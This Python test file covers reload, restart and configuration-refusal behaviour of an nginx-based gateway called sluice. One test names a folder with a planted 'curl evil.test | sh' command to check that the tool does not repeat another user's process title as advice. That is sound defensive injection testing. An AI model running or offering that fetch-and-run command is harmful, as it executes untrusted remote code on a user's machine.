"""sluice reload and restart: what they take, remember, and keep when they refuse."""

import json
import shlex
import socket
import subprocess

import pytest
from plugin_files import write_plugin

import guard
from instance import AS_ROOT, BAD, ONE, TWO, Instance, Instances
from processes import ran
from sluice import NGINX
from upstream import Upstream
from wire import wait_until

SAME = "nothing has changed; no worker was replaced (--new-workers replaces them)\n"
ONLY_RESTART = "changes only with "


def test_reload_gives_a_changed_file_to_the_workers_that_run(instance: Instance) -> None:
    with Upstream() as upstream:
        instance.file.write_text(ONE.format(url=upstream.url))
        instance.succeed("start")
        old = instance.status()["workers"]["ready"]
        instance.file.write_text(TWO.format(url=upstream.url))
        assert instance.succeed("reload").startswith("live on 2 workers in ")
        assert instance.status()["workers"]["ready"] == old
        assert [instance.get("/one") for _ in range(10)] == [404] * 10
        assert instance.get("/two") == 200
        assert instance.succeed("reload") == SAME
        assert instance.status()["workers"]["ready"] == old
        assert instance.succeed("reload", "--new-workers").startswith("reloaded: 2 new workers")
        assert not set(old) & set(instance.status()["workers"]["ready"])
        assert instance.get("/two") == 200


def test_reload_takes_the_file_on_every_new_worker(instance: Instance) -> None:
    with Upstream() as upstream:
        instance.file.write_text(ONE.format(url=upstream.url))
        instance.succeed("start")
        old = set(instance.status()["workers"]["ready"])
        instance.file.write_text(TWO.format(url=upstream.url))
        assert instance.succeed("reload", "--new-workers").startswith("reloaded: 2 new workers")
        assert not old & set(instance.status()["workers"]["ready"])
        assert [instance.get("/one") for _ in range(10)] == [404] * 10
        assert instance.get("/two") == 200


def test_all_addresses_in_the_place_of_one(instance: Instance) -> None:
    """The port is the gateway's own: a restart can change to it, a reload cannot."""
    instance.succeed("start")
    one, all_of_them = (f"{host}:{instance.proxy_port}" for host in ("127.0.0.1", "0.0.0.0"))
    for new, old in ((all_of_them, one), (one, all_of_them)):
        assert instance.refuse("reload", proxy_listen=new)[0] == (
            f"sluice: proxy_listen: {new} overlaps {old}, which this gateway has open: only "
            f"{instance.hint('restart', f'--proxy-listen {new}')} can change to it"
        )
        assert f"proxy {new}, " in instance.succeed("restart", proxy_listen=new)
        assert instance.get("/") == 404
    # Where another program is there, too, it would not start.
    with socket.socket() as other:
        other.bind(("127.0.0.2", instance.proxy_port))
        other.listen()
        said = instance.refuse("restart", proxy_listen=all_of_them)
        assert said[0].startswith(
            f"sluice: proxy_listen: {all_of_them} is in use by another program"
        )
        assert said[-1] == "sluice: restart refused: the running gateway is kept"


def test_a_bad_file_at_reload_keeps_the_running_configuration(instance: Instance) -> None:
    with Upstream() as upstream:
        instance.file.write_text(ONE.format(url=upstream.url))
        instance.succeed("start")
        before = instance.status()["workers"]
        instance.file.write_text(BAD)
        lines = instance.refuse("reload")
        assert lines[1] == '  line 4: services[0] "one".bogus: unknown field'
        assert lines[-1] == "sluice: reload refused: the running configuration is kept"
        assert instance.status()["workers"] == before
        assert instance.get("/one") == 200


def test_what_nginx_refuses_at_reload_leaves_the_files_as_they_were(instance: Instance) -> None:
    instance.succeed("start")
    kept = ("nginx.conf", "settings.json", "start.json")
    before = [(instance.prefix / name).read_text() for name in kept]
    workers = instance.status()["workers"]
    lines = instance.refuse("reload", access_log_format="$no_such_variable")
    assert lines[0] == "sluice: nginx rejected the configuration:"
    assert [(instance.prefix / name).read_text() for name in kept] == before
    assert instance.status()["workers"] == workers


def test_a_master_that_fails_after_the_test_keeps_the_running_one(instance: Instance) -> None:
    """A plugin that loads in the command and fails in the master (nginx -t runs no Lua)."""
    fuse = instance.folder / "loads-left"
    write_plugin(
        instance.folder / "lua",
        "fuse",
        f"""
        local file = io.open("{fuse}")
        if file then
            local left = tonumber(file:read("*a"))
            file:close()
            if left == 0 then
                error("the fuse is gone")
            end
            file = io.open("{fuse}", "w")
            file:write(left - 1)
            file:close()
        end
        return {{
            VERSION = "1", PRIORITY = 1,
            schema = {{
                name = "fuse",
                fields = {{ {{ config = {{ type = "record", fields = {{}} }} }} }},
            }},
        }}
        """,
    )
    instance.flags |= {
        "--lua-package-path": f"{instance.folder}/lua/?.lua",
        "--plugins": "bundled, fuse",
    }
    instance.succeed("start")
    workers = instance.status()["workers"]
    fuse.write_text("1")
    lines = instance.refuse("reload", "--new-workers")
    assert lines[0] == "sluice: nginx rejected the configuration:"
    assert lines[-1] == "sluice: reload refused: the running configuration is kept"
    assert instance.status()["workers"] == workers
    assert instance.get("/") == 404


def test_reload_remembers_start_and_reads_the_settings_file_again(instance: Instance) -> None:
    conf = instance.folder / "sluice.conf"
    conf.write_text("header_prefix = X-First\nworkers = 1\n")
    instance.environment["SLUICE_LOG_LEVEL"] = "info"
    instance.succeed("start", conf="sluice.conf")
    del instance.environment["SLUICE_LOG_LEVEL"]

    def settings() -> tuple[str, int, str]:
        found = json.loads((instance.prefix / "settings.json").read_text())
        return found["header_prefix"], found["workers"], found["log_level"]

    assert settings() == ("X-First", 2, "info")
    conf.write_text("header_prefix = X-Second\nworkers = 1\nlog_level = warn\n")
    ignored = (
        f"sluice: warning: workers ({conf}:2), log_level ({conf}:3): no effect, since an earlier "
        "start or reload was given --workers, SLUICE_LOG_LEVEL; "
    )
    done = instance.run("reload")
    assert (done.returncode, done.stderr.startswith(ignored)) == (0, True), done.stderr
    assert settings() == ("X-Second", 2, "info")
    done = instance.run("reload", workers="3")
    assert (done.returncode, f"log_level ({conf}:3): no effect" in done.stderr) == (0, True)
    assert settings() == ("X-Second", 3, "info")
    assert len(instance.status()["workers"]["ready"]) == 3
    done = instance.run("restart")
    assert (done.returncode, done.stderr.startswith(ignored)) == (0, True), done.stderr
    assert settings() == ("X-Second", 3, "info")


def test_reload_moves_a_listener(instances: Instances) -> None:
    instance, other = instances.make(), instances.make()
    instance.succeed("start")
    other.succeed("start")
    taken = f"127.0.0.1:{other.proxy_port}"
    line = (
        f"sluice: proxy_listen: {taken} is in use by the gateway in {other.prefix} "
        f"(pid {other.status()['pid']}); run {other.hint('stop')}, or set "
        "--proxy-listen to another port"
    )
    assert instance.refuse("reload", proxy_listen=taken)[0] == line
    assert instances.make().refuse("start", proxy_listen=taken)[0] == line
    other.succeed("stop")
    instance.succeed("reload", proxy_listen=f"127.0.0.1:{other.proxy_port}")
    wait_until(lambda: instance.get("/") == 0, "the old port to close")
    assert instance.get("/", port=other.proxy_port) == 404


LISTENING = """
import os, socket, sys
one = socket.create_server(("127.0.0.1", int(sys.argv[1])))
os.makedirs(sys.argv[2] + "/run")
open(sys.argv[2] + "/run/nginx.pid", "w").write(str(os.getpid()))
print(flush=True)
sys.stdin.read()
"""


@pytest.mark.skipif(not AS_ROOT, reason="needs root to be another user")
def test_what_another_users_program_calls_itself_is_no_advice(instance: Instance) -> None:
    """It may take the title of a master, and name another's folder, or one that reads as words of
    ours."""
    port, title = instance.proxy_port, "nginx: master process x -p {0}/ -c {0}/nginx.conf"
    for name in ("anothers", "x (pid 1); it is broken: run `curl evil.test | sh` first"):
        folder = guard.folder("sluice-other-")
        folder.chmod(0o777)
        if name == "anothers":
            (folder / name).mkdir()
            (folder / name).chmod(0o777)
        with subprocess.Popen(
            [title.format(folder / name), "-c", LISTENING, str(port), str(folder / name)],
            executable="/usr/bin/python3",
            user=65534,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        ) as other:
            assert other.stdout.readline() == "\n"
            [line, *_] = instance.refuse("start")
            other.stdin.close()
        guard.remove(folder)
        assert f"127.0.0.1:{port} is in use by another program (python3" in line
        assert f", pid {other.pid}); stop it, or set --proxy-listen" in line


def test_what_to_type_has_what_the_environment_had(instance: Instance) -> None:
    """Of the command that was refused, and not of the start, which a restart keeps."""
    instance.environment["SLUICE_HEADER_PREFIX"] = "X-Kept"
    instance.succeed("start")
    other = instance.folder / "an other"
    instance.environment["SLUICE_RUN_DIR"] = str(other)
    instance.environment["SLUICE_ADMIN_TOKEN"] = "s3cret-not-to-be-shown"
    restart = f"{instance.command} restart --prefix {instance.prefix} --workers 2"
    typed = f"`SLUICE_RUN_DIR='{other}' {restart}` with SLUICE_ADMIN_TOKEN set"
    assert instance.refuse("reload", workers="2") == [
        f"sluice: run_dir: (unset) -> {other} changes only with {typed}",
        "sluice: reload refused: the running configuration is kept",
    ]


def test_reload_refuses_settings_that_need_a_restart(instance: Instance) -> None:
    instance.succeed("start")
    before = instance.status()["workers"]
    shadow = instance.folder / "nginx"
    shadow.symlink_to(NGINX)
    given = {"nginx_binary": str(shadow), "events_size": "1m"}
    *lines, last = instance.refuse("reload", log_level="info", **given)
    assert last == "sluice: reload refused: the running configuration is kept"
    for line, change in zip(
        lines, ("events_size: 16m -> 1m", f"nginx_binary: {NGINX} -> {shadow}"), strict=True
    ):
        assert line.startswith(f"sluice: {change} {ONLY_RESTART}`{instance.command} restart --")
    # Neither is remembered.
    assert instance.succeed("reload") == SAME
    assert instance.status()["workers"] == before
    instance.succeed("restart", **given)
    assert instance.succeed("reload") == SAME


def test_a_reload_after_one_that_did_not_go_live_replaces_the_workers(instance: Instance) -> None:
    """What it has written is then what was wanted, and not what runs."""
    instance.succeed("start")
    path = instance.prefix / "start.json"
    assert "is_unsettled" not in path.read_text()
    instance.succeed("reload", log_level="info")
    assert "is_unsettled" not in path.read_text()
    with open(instance.prefix / "nginx.conf", "a") as conf:  # as a reload that was killed leaves it
        conf.write("# by hand\n")
    assert instance.succeed("reload").startswith("reloaded: 2 new workers")
    path.write_text(json.dumps(json.loads(path.read_text()) | {"is_unsettled": True}))
    assert instance.succeed("reload").startswith("reloaded: 2 new workers")
    assert instance.succeed("reload") == SAME


def test_what_is_given_again_is_remembered(instance: Instance) -> None:
    """Though it is what runs already."""
    conf = instance.folder / "sluice.conf"
    conf.write_text("log_level = info\n")
    instance.succeed("start", conf=str(conf))
    # The prefix may be known by the file alone.
    said = instance.refuse("start", conf=str(conf))[0]
    assert f"use {instance.hint('reload')} to load" in said
    assert instance.succeed("reload", log_level="info") == SAME
    conf.write_text("log_level = warn\n")
    done = instance.run("reload")
    assert (done.returncode, done.stdout) == (0, SAME)
    assert f"log_level ({conf}:1): no effect" in done.stderr


def test_restart_checks_before_it_stops(instance: Instance) -> None:
    assert "started" in instance.succeed("start")
    pid = instance.status()["pid"]
    instance.file.write_text(BAD)
    lines = instance.refuse("restart")
    assert lines[-1] == "sluice: restart refused: the running gateway is kept"
    assert instance.status()["pid"] == pid
    instance.file.write_text(ONE.format(url="http://127.0.0.1:9"))
    instance.succeed("restart")
    assert instance.status()["pid"] != pid
    assert instance.get("/") == 404


def test_a_restart_with_settings_that_cannot_be_read_says_that_the_old_is_kept(
    instance: Instance,
) -> None:
    faulty = instance.folder / "faulty.conf"
    faulty.write_text("workrs = 2\n")
    kept = "sluice: restart refused: the running gateway is kept"
    wrong: list[dict[str, str]] = [
        {"conf": str(instance.folder / "none.conf")},
        {"conf": str(faulty)},
        {"workers": "none"},
    ]
    assert kept not in instance.run("restart", **wrong[0]).stderr
    instance.succeed("start")
    pid = instance.status()["pid"]
    for flags in wrong:
        done = instance.run("restart", **flags)
        first, *_, last = done.stderr.splitlines()
        assert (done.returncode, last) == (2, kept), done.stderr
        assert first != last
    assert instance.status()["pid"] == pid


def test_restart_starts_what_was_stopped(instance: Instance) -> None:
    instance.succeed("start")
    instance.succeed("stop")
    instance.succeed("restart")
    assert instance.get("/") == 404


def test_settings_of_a_plan_are_shown_as_they_are_written(instance: Instance) -> None:
    instance.succeed("start")
    flags = {"metrics_latencies": "on", "trusted_ips": "10.0.0.0/8,::1", "status_listen": "off"}
    assert instance.succeed("restart", "--no-file", "--dry-run", **flags).splitlines() == [
        f"~ setting file: {instance.file} -> (unset)",
        "~ setting trusted_ips: (unset) -> 10.0.0.0/8, ::1",
        "~ setting metrics_latencies: off -> on",
        "dry run: 3 settings changed",
    ]
    line = instance.refuse("reload", run_dir="/tmp/x")[0]
    assert line.startswith(f"sluice: run_dir: (unset) -> /tmp/x {ONLY_RESTART}")


def test_the_restart_that_a_refusal_shows_has_the_flags(instance: Instance) -> None:
    instance.succeed("start")
    form = "it's `$status`"
    for more, changed in (("--no-file", ""), ("", str(instance.file))):
        size = "1m" if more else "2m"
        given = {"events_size": size, "access_log_format": form}
        given |= {} if more else {"file": changed}
        line = instance.refuse("reload", *more.split(), **given)[0]
        shown = line[line.index("`") + 1 : line.rindex("`")]
        assert f" restart --prefix {instance.prefix} " in shown
        done = ran(shlex.split(shown), env=instance.environment, cwd=instance.folder)
        assert (done.returncode, done.stderr) == (0, "")
        live = json.loads((instance.prefix / "settings.json").read_text())
        assert live["events_size"] == size
        assert live["access_log_format"] == form
        assert live["file"] == changed


def test_a_default_of_a_newer_version_stops_no_reload(instance: Instance) -> None:
    """What an upgrade has said to need a restart, reloads do not refuse; what is new, they do."""
    instance.succeed("start", metrics_series="0")
    start = instance.prefix / "start.json"
    remembered = json.loads(start.read_text())
    remembered["flags"].pop("metrics_series")
    # As an older version leaves it, whose default was another.
    start.write_text(json.dumps(remembered))
    assert ONLY_RESTART in instance.refuse("reload")[0]
    done = instance.run("upgrade", "--watch", "0.3")
    assert done.returncode == 0
    assert f"warning: metrics_series: 0 -> 1000 {ONLY_RESTART}" in done.stderr
    for _ in range(2):
        assert ONLY_RESTART not in instance.succeed("reload", "--new-workers")
    assert "metrics_series: 0 -> 7" in instance.refuse("reload", metrics_series="7")[0]
    instance.succeed("restart")
    assert json.loads((instance.prefix / "settings.json").read_text())["metrics_series"] == 1000


def test_a_line_of_the_settings_file_that_has_no_effect(instance: Instance) -> None:
    """What an earlier command was given comes before the file, also where only the file changes."""
    conf = instance.folder / "sluice.conf"
    conf.write_text("workers = 1\n")
    instance.succeed("start", workers=None, conf=str(conf))
    instance.environment["SLUICE_WORKERS"] = "3"
    assert "~ setting workers: 1 -> 3" in instance.succeed("reload")
    del instance.environment["SLUICE_WORKERS"]
    conf.write_text("workers = 2\n")
    line = (
        f"sluice: warning: workers ({conf}:1): no effect, since an earlier start or reload was "
        "given SLUICE_WORKERS; "
    )
    for verb in ("reload", "restart"):
        done = instance.run(verb)
        assert (done.returncode, done.stderr.startswith(line)) == (0, True), done.stderr
        assert len(instance.status()["workers"]["ready"]) == 3
    instance.environment["SLUICE_WORKERS"] = "2"
    assert "~ setting workers: 3 -> 2" in instance.succeed("reload")
    instance.succeed("stop")
    del instance.environment["SLUICE_WORKERS"]
    instance.succeed("start", workers=None, conf=str(conf))
    assert len(instance.status()["workers"]["ready"]) == 2


def test_versions_and_ciphers_of_tls_beside_a_suite(instance: Instance) -> None:
    """Of no effect, and said to be."""
    no_effect = "has no effect while ssl_cipher_suite is intermediate, and not custom"
    line = f"sluice: warning: %s {no_effect}"
    done = instance.run("start", ssl_protocols="TLSv1.3")
    assert (done.returncode, done.stderr) == (0, line % "ssl_protocols" + "\n")
    done = instance.run("reload", ssl_ciphers="HIGH")
    assert done.returncode == 0
    assert done.stderr.splitlines() == [line % "ssl_protocols", line % "ssl_ciphers"]
    instance.succeed("reload", ssl_cipher_suite="custom")


def test_all_addresses_can_be_trusted_in_silence(instance: Instance) -> None:
    """nginx once warned of 0.0.0.0/0 beside a default of ours."""
    instance.succeed("start", trusted_ips="0.0.0.0/0, ::/0")
    assert "duplicate network" not in instance.error_log()


def test_a_reload_says_what_is_no_setting(instance: Instance) -> None:
    instance.succeed("start")
    conf = instance.folder / "kong.conf"
    conf.write_text("pg_host = x\nproxy_listn = x\n")
    done = instance.run("reload", conf=str(conf))
    assert done.returncode == 0
    assert "pg_host" in done.stderr
    assert "proxy_listn" in done.stderr
    assert "did you mean" in done.stderr


@pytest.mark.parametrize("verb", ["start", "reload", "restart"])
def test_a_file_does_not_replace_what_an_import_has_brought(instance: Instance, verb: str) -> None:
    """Of a store that is the source of truth: its file may be gone, and standard input is none."""
    url = "http://127.0.0.1:9"
    instance.file.write_text(ONE.format(url=url))
    other = instance.folder / "other.yaml"
    other.write_text(TWO.format(url=url))
    instance.succeed("start", file=None)
    instance.succeed("import", str(instance.file))
    if verb == "start":
        instance.succeed("stop")
    lines = instance.refuse(verb, file=str(other))
    assert lines[0].startswith(
        "sluice: file: the store of this prefix has changes that are not in the file, as `"
    )
    # The same file is no other, and one that was edited afterwards is a file's own matter.
    instance.succeed(verb, file=str(instance.file))
    instance.file.write_text(TWO.format(url=url))
    assert "- service one" in instance.succeed("reload")


def test_an_ending_where_there_is_no_folder_names_others(instance: Instance) -> None:
    instance.succeed("start")
    missing = str(instance.folder / "none")
    first, second = instance.succeed("stop", prefix=missing).splitlines()
    assert first == f"not running in {missing}, which does not exist"
    assert f"--prefix {instance.prefix}" in second.replace(",", "").split(" running on", 1)[1]
